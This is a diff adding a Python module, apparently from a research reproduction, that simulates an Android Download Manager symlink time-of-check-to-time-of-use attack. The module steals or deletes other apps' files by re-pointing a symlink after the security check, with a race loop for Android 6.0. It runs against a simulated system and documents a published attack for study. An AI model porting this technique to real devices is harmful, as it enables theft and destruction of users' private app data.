@@ -1,0 +1,178 @@
+"""The Download Manager symlink TOCTOU — AIT Step 2 (Section III-C).
+
+The attacker asks the DM to download an innocuous file to a *symbolic
+link* that points somewhere authorized (its own SD-Card directory).
+Once the security check has passed, the link is re-pointed at a path
+only the DM can touch — another app's internal files, or the DM's own
+database.  ``retrieve`` then leaks the target's bytes, and ``remove``
+deletes it (the paper's Google-Play denial of service).
+
+Both firmware behaviours are attacked:
+
+- Android 4.4 (``SymlinkMode.LEXICAL``): one re-point after the
+  download suffices,
+- Android 6.0 (``SymlinkMode.CHECK_THEN_USE``): the DM re-checks the
+  physical path per request, so the attacker runs a link-flipping
+  process and retries until a flip lands inside the check-to-use gap.
+"""
+
+from __future__ import annotations
+
+import posixpath
+from dataclasses import dataclass
+from typing import Generator, List, Optional
+
+from repro.errors import DownloadDestinationError, DownloadError
+from repro.android.download_manager import CHECK_TO_USE_GAP_NS, SymlinkMode
+from repro.attacks.base import MaliciousApp
+from repro.core.ait import AITStep
+from repro.core.outcomes import AttackResult
+from repro.sim.kernel import Sleep, SimEvent, WaitFor
+
+_PAD_URL = "http://cdn.fun-flashlight.example/pad.bin"
+_PAD_CONTENT = b"<innocuous padding file>"
+
+MAX_RACE_ATTEMPTS = 12
+
+
+@dataclass
+class SymlinkLoot:
+    """What one symlink attack run obtained."""
+
+    target_path: str
+    leaked: Optional[bytes] = None
+    deleted: bool = False
+    attempts: int = 0
+
+
+class DMSymlinkAttacker(MaliciousApp):
+    """The Step-2 attacker. Needs no permission at all for the DM calls."""
+
+    def __init__(self, package: Optional[str] = None) -> None:
+        super().__init__(package=package)
+        self.loot: List[SymlinkLoot] = []
+
+    @property
+    def work_dir(self) -> str:
+        """The attacker's own staging corner of the SD-Card."""
+        return "/sdcard/.dl-fun-flashlight"
+
+    # -- attack entry points ------------------------------------------------------
+
+    def steal_file(self, target_path: str) -> Generator[object, object, SymlinkLoot]:
+        """Leak the contents of ``target_path`` through the DM's privilege."""
+        loot = SymlinkLoot(target_path=target_path)
+        link_path, download_id, decoy_path = yield from self._prime(loot)
+        mode = self.system.dm.symlink_mode
+        if mode is SymlinkMode.LEXICAL:
+            # 4.4: the check only ever saw the lexical path; re-point once.
+            self.system.fs.retarget_symlink(link_path, target_path, self.caller)
+            loot.attempts = 1
+            loot.leaked = yield from self.system.dm.retrieve(self.caller, download_id)
+        else:
+            loot.leaked = yield from self._race_retrieve(
+                loot, link_path, download_id, decoy_path, target_path
+            )
+        self.loot.append(loot)
+        return loot
+
+    def delete_file(self, target_path: str) -> Generator[object, object, SymlinkLoot]:
+        """Delete ``target_path`` through the DM (e.g. its own database)."""
+        loot = SymlinkLoot(target_path=target_path)
+        link_path, download_id, decoy_path = yield from self._prime(loot)
+        mode = self.system.dm.symlink_mode
+        if mode is SymlinkMode.LEXICAL:
+            self.system.fs.retarget_symlink(link_path, target_path, self.caller)
+            loot.attempts = 1
+            _path, unlinked = yield from self.system.dm.remove(self.caller, download_id)
+            loot.deleted = unlinked
+        else:
+            yield from self._race_remove(
+                loot, link_path, download_id, decoy_path, target_path
+            )
+        self.loot.append(loot)
+        return loot
+
+    def result(self, loot: SymlinkLoot) -> AttackResult:
+        """Wrap a loot record as a reportable attack result."""
+        succeeded = loot.deleted or (
+            loot.leaked is not None and loot.leaked != _PAD_CONTENT
+        )
+        return AttackResult(
+            attack_name="dm-symlink-toctou",
+            ait_step=AITStep.DOWNLOAD,
+            succeeded=succeeded,
+            detail={
+                "target": loot.target_path,
+                "attempts": loot.attempts,
+                "mode": self.system.dm.symlink_mode.value,
+            },
+        )
+
+    # -- plumbing ----------------------------------------------------------------------
+
+    def _prime(self, loot: SymlinkLoot):
+        """Host a pad file, download it through a symlink, await completion."""
+        if not self.system.network.exists(_PAD_URL):
+            self.system.network.host(_PAD_URL, _PAD_CONTENT)
+        if not self.system.fs.exists(self.work_dir):
+            self.make_dirs(self.work_dir)
+        token = self.system.rng.token(8)
+        decoy_path = posixpath.join(self.work_dir, f"decoy-{token}.bin")
+        link_path = posixpath.join(self.work_dir, f"link-{token}")
+        self.system.fs.symlink(link_path, decoy_path, self.caller)
+        download_id = self.enqueue_download(_PAD_URL, link_path)
+        done = SimEvent(name=f"dm-attack-{download_id}")
+        subscription = self.system.hub.subscribe(
+            self.system.dm.completion_topic(download_id),
+            lambda record: done.trigger(record),
+        )
+        yield WaitFor(done)
+        subscription.cancel()
+        return link_path, download_id, decoy_path
+
+    def _race_retrieve(self, loot: SymlinkLoot, link_path: str, download_id: int,
+                       decoy_path: str, target_path: str):
+        """6.0 mode: flip the link mid-gap until a read leaks the target."""
+        for attempt in range(1, MAX_RACE_ATTEMPTS + 1):
+            loot.attempts = attempt
+            leaked = yield from self._one_race(
+                link_path, decoy_path, target_path, attempt,
+                lambda: self.system.dm.retrieve(self.caller, download_id),
+            )
+            if leaked is not None and leaked != _PAD_CONTENT:
+                return leaked
+        return None
+
+    def _race_remove(self, loot: SymlinkLoot, link_path: str, download_id: int,
+                     decoy_path: str, target_path: str):
+        for attempt in range(1, MAX_RACE_ATTEMPTS + 1):
+            loot.attempts = attempt
+            outcome = yield from self._one_race(
+                link_path, decoy_path, target_path, attempt,
+                lambda: self.system.dm.remove(self.caller, download_id),
+            )
+            if outcome is None:
+                continue  # flip landed before the check; record survived
+            deleted_path, unlinked = outcome
+            loot.deleted = unlinked and deleted_path == target_path
+            return  # remove consumed the record either way: one shot
+
+    def _one_race(self, link_path: str, decoy_path: str, target_path: str,
+                  attempt: int, operation):
+        """Point the link at the decoy, schedule a mid-gap flip, operate."""
+        self.system.fs.retarget_symlink(link_path, decoy_path, self.caller)
+        flip_delay = (attempt * CHECK_TO_USE_GAP_NS // 4) % (CHECK_TO_USE_GAP_NS + 50_000)
+        self.system.kernel.call_later(
+            flip_delay,
+            lambda: self.system.fs.retarget_symlink(
+                link_path, target_path, self.caller
+            ),
+        )
+        try:
+            result = yield from operation()
+        except (DownloadDestinationError, DownloadError):
+            # The flip landed before the check: caught red-handed, retry.
+            yield Sleep(CHECK_TO_USE_GAP_NS * 2)
+            return None
+        return result if result is not None else b""
